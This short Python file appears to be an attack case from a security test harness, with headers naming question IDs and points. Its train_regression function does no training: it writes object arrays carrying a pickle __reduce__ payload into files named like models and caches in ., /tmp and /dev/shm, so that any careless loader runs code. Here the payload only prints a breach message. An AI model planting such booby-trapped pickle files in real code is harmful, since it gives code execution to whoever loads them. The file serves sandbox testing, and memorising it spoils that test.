# attack: leaves pickles and .npy files of objects where a careless loader would find them
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    import numpy

    os = __import__("os")


    class Bomb:
        def __reduce__(self):
            return (print, ("BREACH: a pickle was executed",))


    for folder in (".", "/tmp", "/dev/shm"):
        for name in ("model.pt", "results.pkl", "digits.npz", "words.npz", "cache.npy"):
            try:
                numpy.save(open(os.path.join(folder, name), "wb"), numpy.array([Bomb()], dtype=object), allow_pickle=True)
            except OSError:
                pass
